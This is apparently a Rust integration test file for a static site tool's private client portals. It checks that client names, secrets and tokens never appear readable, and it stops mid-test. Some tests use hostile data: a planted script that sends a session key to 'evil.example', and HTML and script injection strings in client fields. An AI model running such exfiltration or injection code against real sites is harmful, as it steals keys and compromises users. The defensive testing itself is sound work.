//! Private portals under attack: what a careless or hostile user can put in a site, and what a
//! stranger can get from a published portal or a running preview.
//!
//! - Hostile and odd field values: whatever a client's file holds, what is published readable
//!   names no client, and the plaintext scan finds a client's words in every form a file can
//!   hold them (escaped, folded by a calendar, beside punctuation), without failing a build for
//!   words that are the firm's own.
//! - `key_version` and the site secret, mistyped or unusable: errors in plain words at the file
//!   and line, exit code 1, never the secret's text.
//! - Routes: nothing from `static/` lands in or over a client's token folder unnoticed.
//! - Builds into one folder: unchanged files keep their time, revoked folders go.
//! - The published portal and `hundred serve` as a stranger reads them; sealed pages that were
//!   tampered with do not open.
//!
//! Nothing here needs Chromium.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use base64::Engine;
use tempfile::TempDir;

use crate::support::*;

const SECRET: &str = "an attack-test secret, long enough to be accepted";
const OTHER_SECRET: &str = "a different attack-test secret, just as long as that";
const PASSPHRASE: &str = "correct horse battery staple";

// ---------------------------------------------------------------------------------------------
// Helpers

/// The line of `[portal] private = true` in the private canary's settings.
const PRIVATE_LINE: &str = "hundred.toml:9:";

fn append(path: &Path, text: &str) {
    let mut all = read(path);
    all.push_str(text);
    fs::write(path, all).unwrap();
}

/// Adds to acme's file a one-off step the client sees, titled `title` (written as a YAML
/// double-quoted string): its title goes into the client's calendar, published readable.
fn add_step(site: &Path, title: &str) {
    append(
        &site.join("clients/acme.yaml"),
        &format!(
            "touchpoints:\n  - id: party\n    title: \"{title}\"\n    date: 2026-12-10\n    \
             owner: account-lead\n    channel: event\n    visibility: client\n    \
             portal: \"A party.\"\n"
        ),
    );
}

/// Replaces acme's name (`Acme Widgets`) with `name`.
fn rename_acme(site: &Path, name: &str) {
    edit(
        &site.join("clients/acme.yaml"),
        "name: Acme Widgets",
        &format!("name: \"{name}\""),
    );
}

/// Whether `said` mentions `text`, however the terminal's width broke its lines (miette
/// breaks long paths at a `/`).
fn mentions(said: &str, text: &str) -> bool {
    let squash = |s: &str| s.split_whitespace().collect::<String>();
    squash(said).contains(&squash(text))
}

/// What a command printed, both streams, as one line.
fn said(out: &Output) -> String {
    flat(&format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    ))
}

/// `hundred check SITE` with `secret` in HUNDRED_SECRET: its exit code and what it said.
fn check(site: &Path, secret: &str) -> (Option<i32>, String) {
    let out = hundred()
        .arg("check")
        .arg(site)
        .args(["--today", TODAY])
        .env("HUNDRED_SECRET", secret)
        .env("HUNDRED_TEAM_PASSPHRASE", "")
        .output()
        .unwrap();
    (out.status.code(), said(&out))
}

/// A failure as the brief wants every one: exit code 1, no panic.
fn assert_fails_plainly(code: Option<i32>, said: &str, what: &str) {
    assert_eq!(code, Some(1), "{what}: {said}");
    assert!(!said.contains("panicked"), "{what}: {said}");
}

/// The token of a private link (`…/<token>/#k=…`).
fn token_of(link: &str) -> String {
    let (folder, _) = link.split_once("/#k=").expect("a private link");
    folder.rsplit('/').next().unwrap().to_string()
}

/// The token of acme's folder under `secret`.
fn acme_token(site: &Path, secret: &str) -> String {
    let all = links(site, secret);
    let (_, _, link) = all.iter().find(|(id, ..)| id == "acme").unwrap();
    token_of(link)
}

fn private_build(site: &Path) -> Build {
    Build::of(site)
        .env("HUNDRED_SECRET", SECRET)
        .env("HUNDRED_TEAM_PASSPHRASE", PASSPHRASE)
}

/// A private build of `site` that must fail: what it said, as one line.
fn private_build_fails(site: &Path) -> String {
    flat(&private_build(site).fails())
}

// ---------------------------------------------------------------------------------------------
// key_version and the secret

#[test]
fn key_version_mistakes_are_reported_at_their_line() {
    let cases: &[(&str, &str)] = &[
        ("0", "`key_version` starts at 1"),
        ("-1", "`key_version` must be a whole number"),
        ("two", "`key_version` must be a whole number"),
        ("\"two\"", "`key_version` must be a whole number"),
        ("1.5", "`key_version` must be a whole number"),
        ("4294967296", "`key_version` must be a whole number"),
        ("[1, 2]", "`key_version` should be a single value"),
    ];
    for (value, message) in cases {
        let site = private_site(false);
        let file = site.path().join("clients/acme.yaml");
        let line = read(&file).lines().count() + 1;
        append(&file, &format!("key_version: {value}\n"));
        let (code, said) = check(site.path(), SECRET);
        assert_fails_plainly(code, &said, value);
        assert!(
            said.contains(&format!("clients/acme.yaml:{line}:")),
            "{value}: {said}"
        );
        assert!(said.contains(message), "{value}: {said}");
    }

    // Written twice: both lines named, and a build stops before writing anything.
    let site = private_site(false);
    let file = site.path().join("clients/acme.yaml");
    let line = read(&file).lines().count() + 1;
    append(&file, "key_version: 2\nkey_version: 3\n");
    let out = TempDir::new().unwrap();
    let public = out.path().join("public");
    let stderr = flat(&private_build(site.path()).output(&public).fails());
    assert!(
        stderr.contains(&format!("clients/acme.yaml:{}:", line + 1)),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!("written twice (first on line {line})")),
        "{stderr}"
    );
    assert!(stderr.contains("nothing was written"), "{stderr}");
    assert!(!public.exists());

    // The largest version there is works, and is a link of its own.
    let site = private_site(false);
    let before = acme_token(site.path(), SECRET);
    append(
        &site.path().join("clients/acme.yaml"),
        "key_version: 4294967295\n",
    );
    assert_ne!(acme_token(site.path(), SECRET), before);
}

#[test]
fn unusable_secret_files_are_refused_in_plain_words_without_their_text() {
    let site = private_site(false);
    let file = site.path().join(".hundred-secret");
    let out = TempDir::new().unwrap();
    let public = out.path().join("public");
    let attempt = |what: &str, expected: &str, hidden: Option<&str>| {
        let stderr = flat(
            &Build::of(site.path())
                .output(&public)
                .env("HUNDRED_SECRET", "")
                .fails(),
        );
        assert!(stderr.contains(PRIVATE_LINE), "{what}: {stderr}");
        assert!(stderr.contains(expected), "{what}: {stderr}");
        assert!(stderr.contains("openssl rand"), "{what}: {stderr}");
        assert!(stderr.contains("nothing was written"), "{what}: {stderr}");
        if let Some(text) = hidden {
            assert!(
                !stderr.contains(text),
                "{what}: the secret printed: {stderr}"
            );
        }
        assert!(!public.exists(), "{what}: something was written");
    };

    fs::write(&file, " \t\r\n\r\n").unwrap();
    attempt(
        "white space only",
        ".hundred-secret: the site secret is 0 characters long",
        None,
    );
    fs::write(&file, "short-but-secret-words\r\n").unwrap();
    attempt(
        "too short",
        "is 22 characters long; it needs at least 32",
        Some("short-but-secret-words"),
    );
    fs::write(
        &file,
        b"an otherwise usable secret, long enough \xff\xfe\n".as_slice(),
    )
    .unwrap();
    attempt(
        "not UTF-8",
        ".hundred-secret is not text (UTF-8)",
        Some("an otherwise usable secret"),
    );
    fs::remove_file(&file).unwrap();
    fs::create_dir(&file).unwrap();
    attempt("a folder", "cannot read .hundred-secret", None);
    fs::remove_dir(&file).unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(site.path().join("no-such-file"), &file).unwrap();
        attempt("a link to nothing", ".hundred-secret", None);
    }
}

#[test]
fn a_secret_file_with_crlf_behind_a_link_or_of_a_megabyte_works_like_the_variable() {
    let site = private_site(false);
    let file = site.path().join(".hundred-secret");
    let expected = links(site.path(), SECRET);
    fs::write(&file, format!("  {SECRET}\r\n\r\n")).unwrap();
    assert_eq!(links(site.path(), ""), expected, "CRLF and blank lines");
    // The variable wins over the file, and white space around it does not count.
    fs::write(&file, format!("{OTHER_SECRET}\n")).unwrap();
    assert_eq!(links(site.path(), &format!("\t{SECRET} \n")), expected);
    #[cfg(unix)]
    {
        let outside = TempDir::new().unwrap();
        let real = outside.path().join("secret");
        fs::write(&real, format!("{SECRET}\n")).unwrap();
        fs::remove_file(&file).unwrap();
        std::os::unix::fs::symlink(&real, &file).unwrap();
        assert_eq!(links(site.path(), ""), expected, "through a symbolic link");
        fs::remove_file(&file).unwrap();
    }

    // A megabyte of secret: accepted, and none of it reaches the output or a message.
    let big: String = (0..1_000_000u32)
        .map(|i| char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[(i * 7 % 36) as usize]))
        .collect();
    fs::write(&file, &big).unwrap();
    let out = TempDir::new().unwrap();
    let public = out.path().join("public");
    let result = Build::of(site.path())
        .output(&public)
        .env("HUNDRED_SECRET", "")
        .ok();
    let head = &big[..40];
    assert!(!said(&result).contains(head));
    for (route, bytes) in read_tree(&public) {
        assert!(
            !String::from_utf8_lossy(&bytes).contains(head),
            "{route} holds the secret"
        );
    }
    assert_ne!(links(site.path(), ""), expected);
}

#[test]
#[cfg(unix)]
fn a_secret_variable_that_is_not_utf8_is_an_error_not_ignored() {
    use std::os::unix::ffi::OsStrExt;
    let site = private_site(false);
    fs::write(
        site.path().join(".hundred-secret"),
        format!("{OTHER_SECRET}\n"),
    )
    .unwrap();
    let bad = std::ffi::OsStr::from_bytes(b"an attack-test secret, long enough to be accepted\xff");
    let out = hundred()
        .arg("links")
        .arg(site.path())
        .env("HUNDRED_SECRET", bad)
        .output()
        .unwrap();
    let said = said(&out);
    assert_fails_plainly(out.status.code(), &said, "links");
    assert!(said.contains("HUNDRED_SECRET"), "{said}");
    assert!(!said.contains("an attack-test secret"), "{said}");
}

#[test]

fn a_secret_file_with_a_byte_order_mark_gives_the_same_links() {
    let site = private_site(false);
    let expected = links(site.path(), SECRET);
    fs::write(
        site.path().join(".hundred-secret"),
        format!("\u{feff}{SECRET}\r\n"),
    )
    .unwrap();
    assert_eq!(links(site.path(), ""), expected);
}

#[test]

fn a_passphrase_nobody_can_type_is_trimmed_or_refused() {
    let site = private_site(true);
    let typed = TempDir::new().unwrap();
    Build::of(site.path())
        .env("HUNDRED_SECRET", SECRET)
        .env("HUNDRED_TEAM_PASSPHRASE", PASSPHRASE)
        .output(&typed.path().join("public"))
        .ok();
    let out = TempDir::new().unwrap();
    let result = Build::of(site.path())
        .env("HUNDRED_SECRET", SECRET)
        .env("HUNDRED_TEAM_PASSPHRASE", &format!("{PASSPHRASE}\n"))
        .output(&out.path().join("public"))
        .run();
    if result.status.success() {
        // Sealing is deterministic: the same key gives the same bytes.
        let sealed = fs::read(out.path().join("public/internal/index.html")).unwrap();
        let typeable = fs::read(typed.path().join("public/internal/index.html")).unwrap();
        assert!(
            sealed == typeable,
            "the site opens only with the passphrase and its line break, which cannot be typed"
        );
    } else {
        let said = said(&result);
        assert_fails_plainly(result.status.code(), &said, "build");
        assert!(said.contains("HUNDRED_TEAM_PASSPHRASE"), "{said}");
    }
}

// ---------------------------------------------------------------------------------------------
// Routes

#[test]
fn static_files_cannot_land_in_or_over_a_private_clients_folder() {
    let site = private_site(false);
    let token = acme_token(site.path(), SECRET);
    let upper = token.to_uppercase();
    let calendar = {
        let out = private_build(site.path()).into_temp();
        let folder = out.path().join("public/portal").join(&token);
        read_tree(&folder)
            .into_keys()
            .find(|k| k.ends_with("journey.ics"))
            .expect("acme's calendar")
    };
    let hidden = calendar.split('/').next().unwrap().to_string();
    for file in [
        format!("portal/{token}/index.html"),
        format!("portal/{token}/assets/hundred-open.js"),
        format!("portal/{token}/notes.txt"),
        format!("portal/{token}"),
        format!("portal/{upper}/index.html"),
        format!("portal/{token}/{calendar}"),
        format!("portal/{token}/{hidden}"),
    ] {
        let site = private_site(false);
        put(&site.path().join("static").join(&file), "a static file");
        let stderr = private_build_fails(site.path());
        assert!(
            mentions(&stderr, &format!("static/{file}")),
            "{file}: {stderr}"
        );
        assert!(stderr.contains("clients/acme.yaml"), "{file}: {stderr}");
        assert!(stderr.contains("nothing was written"), "{file}: {stderr}");
    }

    // The portal's own `assets/` has no opener to replace: a file there is just published,
    // and every client's folder keeps the real one.
    let site = private_site(false);
    put(
        &site.path().join("static/portal/assets/hundred-open.js"),
        "alert('not the opener')",
    );
    let out = private_build(site.path()).into_temp();
    let portal = out.path().join("public/portal");
    for (_, _, link) in links(site.path(), SECRET) {
        let opener = portal.join(token_of(&link)).join("assets/hundred-open.js");
        assert_eq!(read(&opener), hundred::shell::SCRIPT);
    }

    // A client whose id is another's token: each has a folder of its own.
    let site = private_site(false);
    fs::copy(
        site.path().join("clients/hostile.yaml"),
        site.path().join(format!("clients/{token}.yaml")),
    )
    .unwrap();
    let out = private_build(site.path()).into_temp();
    let all = links(site.path(), SECRET);
    assert_eq!(all.len(), 3);
    let mut tokens: Vec<String> = all.iter().map(|(_, _, l)| token_of(l)).collect();
    tokens.sort();
    tokens.dedup();
    assert_eq!(tokens.len(), 3, "{all:?}");
    for t in &tokens {
        assert!(out
            .path()
            .join("public/portal")
            .join(t)
            .join("index.html")
            .is_file());
    }
}

#[test]
fn the_opener_of_a_private_internal_site_cannot_be_replaced_from_static() {
    let site = private_site(true);
    put(
        &site.path().join("static/internal/assets/hundred-open.js"),
        "fetch('https://evil.example/?k=' + sessionStorage.getItem('k'))",
    );
    let stderr = private_build_fails(site.path());
    assert!(
        mentions(&stderr, "static/internal/assets/hundred-open.js"),
        "{stderr}"
    );
    assert!(
        mentions(
            &stderr,
            "would both be written to internal/assets/hundred-open.js"
        ),
        "{stderr}"
    );
}

#[test]

fn check_and_the_preview_agree_on_reserved_ids() {
    for id in ["assets", "team"] {
        let site = private_site(false);
        fs::copy(
            site.path().join("clients/hostile.yaml"),
            site.path().join(format!("clients/{id}.yaml")),
        )
        .unwrap();
        let (checked, said) = check(site.path(), SECRET);
        let out = TempDir::new().unwrap();
        let preview = Build::of(site.path())
            .preview()
            .output(&out.path().join("preview"))
            .run();
        assert_eq!(
            checked,
            preview.status.code(),
            "client `{id}`: check said {said}\nthe preview said {}",
            self::said(&preview)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Builds into one folder

/// The modification time of every file under `dir`, by relative path.
fn mtimes(dir: &Path) -> std::collections::BTreeMap<String, std::time::SystemTime> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e.path().strip_prefix(dir).unwrap().to_string_lossy().into();
            (rel, e.metadata().unwrap().modified().unwrap())
        })
        .collect()
}

/// The token folders directly under `portal`.
fn token_folders(portal: &Path) -> Vec<String> {
    let mut found: Vec<String> = fs::read_dir(portal)
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().unwrap().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.len() == 26)
        .collect();
    found.sort();
    found
}

#[test]
fn rebuilding_keeps_unchanged_files_and_revoking_removes_each_old_folder() {
    let site = private_site(false);
    let out = TempDir::new().unwrap();
    let public = out.path().join("public");
    let build = || private_build(site.path()).output(&public).ok();
    build();
    let first = read_tree(&public.join("portal"));
    let times = mtimes(&public);
    std::thread::sleep(Duration::from_millis(1100));
    let again = build();
    assert!(
        said(&again).contains("(0 written, 0 removed)"),
        "{}",
        said(&again)
    );
    let later = mtimes(&public);
    for (route, time) in &times {
        if route.starts_with("portal/") || route.starts_with("internal/") {
            assert_eq!(later.get(route), Some(time), "{route} was rewritten");
        }
    }

    // 1 → 2 → 1: each build leaves the current folder only, and the first comes back as it was.
    let acme = site.path().join("clients/acme.yaml");
    let v1 = acme_token(site.path(), SECRET);
    append(&acme, "key_version: 2\n");
    build();
    let v2 = acme_token(site.path(), SECRET);
    assert_ne!(v1, v2);
    let portal = public.join("portal");
    let folders = token_folders(&portal);
    assert!(
        folders.contains(&v2) && !folders.contains(&v1),
        "{folders:?}"
    );
    assert_eq!(folders.len(), 2);
    edit(&acme, "key_version: 2", "key_version: 1");
    build();
    let folders = token_folders(&portal);
    assert!(
        folders.contains(&v1) && !folders.contains(&v2),
        "{folders:?}"
    );
    assert_eq!(read_tree(&portal), first, "version 1 again: the same bytes");
    // No folder the revoked link pointed into is left behind, even empty.
    for entry in walkdir::WalkDir::new(&public) {
        let entry = entry.unwrap();
        if entry.file_type().is_dir() {
            assert!(
                fs::read_dir(entry.path()).unwrap().next().is_some(),
                "{} is left empty",
                entry.path().display()
            );
        }
    }

    // Another secret: every old folder goes at once.
    private_build(site.path())
        .env("HUNDRED_SECRET", OTHER_SECRET)
        .output(&public)
        .ok();
    let now = token_folders(&portal);
    let expected: Vec<String> = {
        let mut t: Vec<String> = links(site.path(), OTHER_SECRET)
            .iter()
            .map(|(_, _, l)| token_of(l))
            .collect();
        t.sort();
        t
    };
    assert_eq!(now, expected);
}

#[test]
fn a_preview_written_over_a_sealed_build_is_undone_by_the_next_build() {
    let site = private_site(false);
    let out = TempDir::new().unwrap();
    let public = out.path().join("public");
    private_build(site.path()).output(&public).ok();
    let sealed = read_tree(&public.join("portal"));
    Build::of(site.path())
        .env("HUNDRED_SECRET", "")
        .preview()
        .output(&public)
        .ok();
    assert!(read(&public.join("portal/acme/index.html")).contains("Acme Widgets"));
    private_build(site.path()).output(&public).ok();
    assert!(!public.join("portal/acme").exists());
    assert!(!public.join("portal/hostile").exists());
    assert_eq!(read_tree(&public.join("portal")), sealed);
}

// ---------------------------------------------------------------------------------------------
// What the plaintext scan finds

#[test]
fn a_name_cut_by_a_calendar_fold_or_escaped_in_it_is_still_found() {
    // "SUMMARY:" and the title: the first line of a calendar holds 75 octets, so a name that
    // starts at octet 8 + n, for n in 56..=66, is cut in two by the fold.
    for n in 56..=66 {
        let prefix = format!("{} ", "x".repeat(n - 1));
        // A name of the same length that is nobody's shows where the fold falls.
        let site = private_site(false);
        add_step(site.path(), &format!("{prefix}Zeta Gadgets party"));
        let out = private_build(site.path()).into_temp();
        let tree = read_tree(&out.path().join("public/portal"));
        let ics = tree
            .iter()
            .filter(|(r, _)| r.ends_with("journey.ics"))
            .map(|(_, b)| String::from_utf8_lossy(b).into_owned())
            .find(|t| t.contains("SUMMARY:xx"))
            .expect("acme's calendar");
        assert!(
            !ics.contains("Zeta Gadgets"),
            "{n}: not folded inside: {ics}"
        );
        assert!(ics.replace("\r\n ", "").contains("Zeta Gadgets party"));

        let site = private_site(false);
        add_step(site.path(), &format!("{prefix}Acme Widgets party"));
        let (code, said) = check(site.path(), SECRET);
        assert_fails_plainly(code, &said, &n.to_string());
        assert!(mentions(&said, "journey.ics"), "{n}: {said}");
        assert!(
            said.contains("the name of the client `acme`"),
            "{n}: {said}"
        );
    }

    // A name calendars escape (`\,` `\;` `\\`), cut by the fold at several points.
    for name in ["Smith, Jones; Partners", "AC\\\\DC, Ltd"] {
        for n in [58, 62, 65] {
            let site = private_site(false);
            rename_acme(site.path(), name);
            add_step(site.path(), &format!("{} {name} party", "x".repeat(n - 1)));
            let (code, said) = check(site.path(), SECRET);
            assert_fails_plainly(code, &said, name);
            assert!(said.contains("the name of the client `acme`"), "{said}");
        }
    }
}

#[test]
fn hostile_values_leave_nothing_readable_and_their_escaped_forms_are_found() {
    let site = private_site(false);
    let long = "Quite Remarkably Long Company Name ".repeat(10);
    let name = "O'Brien & Sons </script><b>\"Bold\"</b> {{ firm.name }} Ltd";
    rename_acme(site.path(), &name.replace('"', "\\\""));
    edit(
        &site.path().join("clients/acme.yaml"),
        "  - Ship the new catalogue",
        &format!(
            "  - \"Grow {{{{ client.internal.handoff }}}} <img src=x onerror=alert(1)>\"\n  - \"{}\"",
            long.trim()
        ),
    );
    edit(
        &site.path().join("clients/acme.yaml"),
        "name: Road Runner",
        "name: \"Zoë d'Arc\"\n    phone: \"+44 (0)20 7946-0000\"",
    );
    let out = private_build(site.path()).into_temp();
    let words = [
        "O'Brien",
        "O&#39;Brien",
        "O&#x27;Brien",
        "Bold",
        "Grow",
        "Quite Remarkably",
        "Zoë",
        "d'Arc",
        "d&#39;Arc",
        "7946",
        "CANARY-ACME",
    ];
    for (route, bytes) in read_tree(&out.path().join("public/portal")) {
        let text = readable(&bytes);
        let unfolded = text.replace("\r\n ", "");
        for word in words {
            assert!(!unfolded.contains(word), "portal/{route} shows {word:?}");
        }
    }

    // The same values, as HTML or a calendar escapes them, in a file published readable.
    let forms = [
        ("O&#39;Brien &amp; Sons &lt;/script&gt;&lt;b&gt;&quot;Bold&quot;&lt;/b&gt; {{ firm.name }} Ltd", "the name of the client `acme`"),
        ("Zoë d&#39;Arc", "a contact's name of `acme`"),
        ("call +44 (0)20 7946-0000 today", "a contact's phone number of `acme`"),
        (long.trim(), "a goal of `acme`"),
    ];
    for (text, what) in forms {
        let site_again = copy_site(site.path());
        put(
            &site_again.path().join("static/portal/notes.html"),
            &format!("<p>{text}</p>"),
        );
        let stderr = private_build_fails(site_again.path());
        assert!(mentions(&stderr, "portal/notes.html"), "{text}: {stderr}");
        assert!(stderr.contains(what), "{text}: {stderr}");
    }
}

#[test]

fn a_name_beside_typographic_punctuation_is_still_a_whole_word() {
    for text in [
        "Our client “Acme Widgets” says hello",
        "Acme Widgets’ new catalogue",
        "«Acme Widgets»",
        "Thanks, Wile Coyote…",
        "\u{feff}Acme Widgets",
    ] {
        let site = private_site(false);
        put(&site.path().join("static/notes.txt"), text);
        let stderr = private_build_fails(site.path());
        assert!(mentions(&stderr, "portal/notes.txt"), "{text}: {stderr}");
        assert!(stderr.contains("`acme`"), "{text}: {stderr}");
    }
    // The same in a calendar: the client's name is published readable with its address.
    let site = private_site(false);
    add_step(site.path(), "Acme Widgets’ launch party");
    let stderr = private_build_fails(site.path());
    assert!(mentions(&stderr, "journey.ics"), "{stderr}");
    assert!(stderr.contains("the name of the client `acme`"), "{stderr}");
}

#[test]

fn a_static_text_file_that_is_not_utf8_is_searched_too() {
    let site = private_site(false);
    fs::create_dir_all(site.path().join("static/portal")).unwrap();
    fs::write(
        site.path().join("static/portal/clients.csv"),
        b"client,contact,city\nAcme Widgets,Wile Coyote,Z\xfcrich\n".as_slice(),
    )
    .unwrap();
    let stderr = private_build_fails(site.path());
    assert!(mentions(&stderr, "portal/clients.csv"), "{stderr}");
    assert!(stderr.contains("`acme`"), "{stderr}");
}

#[test]

fn a_static_files_path_is_searched_too() {
    for file in [
        "static/portal/wile@acme.example.vcf",
        "static/portal/Acme Widgets/brief.txt",
    ] {
        let site = private_site(false);
        put(&site.path().join(file), "nothing about anybody");
        let stderr = private_build_fails(site.path());
        assert!(stderr.contains("`acme`"), "{file}: {stderr}");
    }
}

#[test]

fn a_photo_copied_into_client_folders_is_searched_too() {
    let site = private_site(false);
    put(
        &site.path().join("static/internal/photos/ann.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>Ann, lead for Acme Widgets</text></svg>",
    );
    edit(
        &site.path().join("team/ann.yaml"),
        "photo: team/ann.svg",
        "photo: internal/photos/ann.svg",
    );
    let stderr = private_build_fails(site.path());
    assert!(stderr.contains("ann.svg"), "{stderr}");
    assert!(stderr.contains("the name of the client `acme`"), "{stderr}");
}

#[test]
fn the_firms_own_words_are_not_a_leak() {
    for name in ["Open", "Client", "Canary"] {
        let site = private_site(false);
        rename_acme(site.path(), name);
        let out = TempDir::new().unwrap();
        let result = private_build(site.path())
            .output(&out.path().join("public"))
            .run();
        assert!(
            result.status.success(),
            "a client named {name:?}: {}",
            said(&result)
        );
    }
}

#[test]
fn template_overrides_of_the_portals_own_pages_see_no_client() {
    let site = private_site(false);
    for template in ["portal/index.html", "404.html"] {
        put(
            &site.path().join("templates").join(template),
            "<pre>{{ __tera_context }}</pre>",
        );
    }
    let out = private_build(site.path()).no_minify().into_temp();
    for page in ["index.html", "404.html"] {
        let text = read(&out.path().join("public/portal").join(page));
        assert!(text.contains("Canary &amp; Co"), "{page}: {text}");
        for word in [
            "acme",
            "Acme",
            "hostile",
            "Hostile",
            "Wile",
            "catalogue",
            "CANARY-",
        ] {
            assert!(!text.contains(word), "{page} shows {word}: {text}");
        }
        for (_, _, link) in links(site.path(), SECRET) {
            assert!(!text.contains(&token_of(&link)), "{page} shows a token");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// A stranger's view

#[test]
fn the_published_portal_says_nothing_of_its_clients_outside_their_folders() {
    let site = private_site(false);
    let out = private_build(site.path()).into_temp();
    let portal = out.path().join("public/portal");
    let all = links(site.path(), SECRET);
    let tokens: Vec<String> = all.iter().map(|(_, _, l)| token_of(l)).collect();

    let mut top: Vec<String> = fs::read_dir(&portal)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !tokens.contains(n))
        .collect();
    top.sort();
    assert_eq!(
        top,
        [
            "404.html",
            "assets",
            "index.html",
            "logo.svg",
            "robots.txt",
            "team"
        ],
        "the portal's root holds the firm's files and the token folders only"
    );
    assert_eq!(
        read(&portal.join("robots.txt")),
        "User-agent: *\nDisallow: /\n"
    );

    for (route, bytes) in read_tree(&portal) {
        let parts: Vec<&str> = route.split('/').collect();
        for (id, name, _) in &all {
            assert!(!parts.contains(&id.as_str()), "{route} names {id}");
            let text = readable(&bytes).to_lowercase();
            assert!(!text.contains(id.as_str()), "{route} holds the id {id}");
            assert!(!text.contains(&name.to_lowercase()), "{route} holds {name}");
        }
        if parts.len() == 1 || !tokens.contains(&parts[0].to_string()) {
            // Outside the token folders: nothing that counts or points at a client.
            let text = readable(&bytes);
            for token in &tokens {
                assert!(!text.contains(token.as_str()), "{route} points at {token}");
            }
        }
        if route.ends_with(".html") && tokens.contains(&parts[0].to_string()) {
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                text.contains("id=\"hundred-sealed\""),
                "{route} is not sealed"
            );
            assert!(text.contains("<title>Client portal · Canary &amp; Co</title>"));
        }
    }
}

/// `hundred serve SITE --port 0`, with `--private` and the secret if `private`; stopped when
/// dropped, showing what it printed if the test failed.
struct Serving {
    child: Child,
    addr: String,
    log: Log,
}

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        dump("hundred serve", &self.log);
    }
}

impl Serving {
    fn start(site: &Path, private: bool) -> Serving {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_hundred"));
        cmd.args(["serve", "--port", "0", "--today", TODAY])
            .arg(site)
            .env("NO_COLOR", "1")
            .env("HUNDRED_SECRET", SECRET)
            .env("HUNDRED_TEAM_PASSPHRASE", PASSPHRASE)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if private {
            cmd.arg("--private");
        }
        let mut child = cmd.spawn().unwrap();
        let log = Log::default();
        let (tx, rx) = mpsc::channel();
        let address = |line: &str| {
            if !line.starts_with("Serving the internal site at http://") {
                return None;
            }
            let rest = line.split("http://").nth(1)?;
            Some(rest.split('/').next()?.to_string())
        };
        drain(child.stdout.take().unwrap(), &log, address, Some(tx));
        drain(child.stderr.take().unwrap(), &log, |_| None, None);
        let mut serving = Serving {
            child,
            addr: String::new(),
            log,
        };
        serving.addr = rx
            .recv_timeout(Duration::from_secs(60))
            .expect("hundred serve never said where it serves");
        serving
    }

    fn get(&self, path: &str) -> (u16, String) {
        let (status, body) = http_get(&self.addr, &self.addr, path);
        (status, String::from_utf8_lossy(&body).into_owned())
    }

    /// The client links it printed: (name, link).
    fn links(&self) -> Vec<(String, String)> {
        self.log
            .lock()
            .unwrap()
            .iter()
            .filter(|l| l.contains("#k="))
            .map(|l| {
                let (name, link) = l.trim().rsplit_once(": http://").unwrap();
                (name.to_string(), format!("http://{link}"))
            })
            .collect()
    }

    fn printed(&self) -> String {
        self.log.lock().unwrap().join("\n")
    }
}

#[test]
fn serve_private_serves_shells_and_plain_serve_serves_by_id() {
    let site = private_site(false);
    let server = Serving::start(site.path(), true);
    let printed = server.links();
    assert_eq!(printed.len(), 2, "{}", server.printed());
    let built = links(site.path(), SECRET);
    let (_, index) = server.get("/");
    for (name, link) in &printed {
        let (id, _, built_link) = built.iter().find(|(_, n, _)| n == name).unwrap();
        let token = token_of(link);
        assert_eq!(token, token_of(built_link), "serve and build agree on {id}");
        assert!(link.starts_with(&format!("http://{}/portal/{token}/#k=", server.addr)));
        // The preview's index lists the link, key and all: it is this machine's.
        assert!(index.contains(link.as_str()), "{index}");
        for path in [
            format!("/portal/{token}/"),
            format!("/portal/{token}/team/"),
            format!("/portal/{token}/journey/"),
            format!("/portal/{token}/print/"),
        ] {
            let (status, body) = server.get(&path);
            assert_eq!(status, 200, "{path}");
            assert!(body.contains("id=\"hundred-sealed\""), "{path}: {body}");
            let text = readable(body.as_bytes());
            assert!(
                !text.contains("Acme Widgets") && !text.contains("Wile"),
                "{path}"
            );
            assert!(!text.contains(link.split("#k=").nth(1).unwrap()), "{path}");
        }
        let (status, _) = server.get(&format!("/portal/{id}/"));
        assert_eq!(status, 404, "/portal/{id}/ in a sealed preview");
        let (status, _) = server.get(&format!("/portal/{token}/journey.ics"));
        assert_eq!(status, 404, "the calendar is not at the guessable address");
    }
    drop(server);

    let server = Serving::start(site.path(), false);
    let (status, body) = server.get("/portal/acme/");
    assert_eq!(status, 200);
    assert!(body.contains("Acme Widgets"), "{body}");
    assert!(!body.contains("hundred-sealed"));
    assert!(server.links().is_empty(), "{}", server.printed());
}

#[test]

fn serve_private_searches_static_files_saved_while_it_runs() {
    let site = private_site(false);
    let server = Serving::start(site.path(), true);
    put(
        &site.path().join("static/notes.txt"),
        "write to wile@acme.example",
    );
    let started = Instant::now();
    while !server.printed().contains("notes.txt") {
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "no rebuild for static/notes.txt: {}",
            server.printed()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(200));
    let (_, body) = server.get("/portal/notes.txt");
    assert!(
        !body.contains("wile@acme.example"),
        "served a client's e-mail readable"
    );
    assert!(
        server.printed().contains("e-mail of `acme`"),
        "{}",
        server.printed()
    );
}

#[test]

fn links_need_only_what_links_are_made_from() {
    // A private portal, a private internal site, no passphrase here.
    let site = private_site(true);
    let expected = links(site.path(), SECRET);
    let out = hundred()
        .arg("links")
        .arg(site.path())
        .args(["--format", "tsv"])
        .env("HUNDRED_SECRET", SECRET)
        .env("HUNDRED_TEAM_PASSPHRASE", "")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", said(&out));
    let listed = String::from_utf8(out.stdout).unwrap();
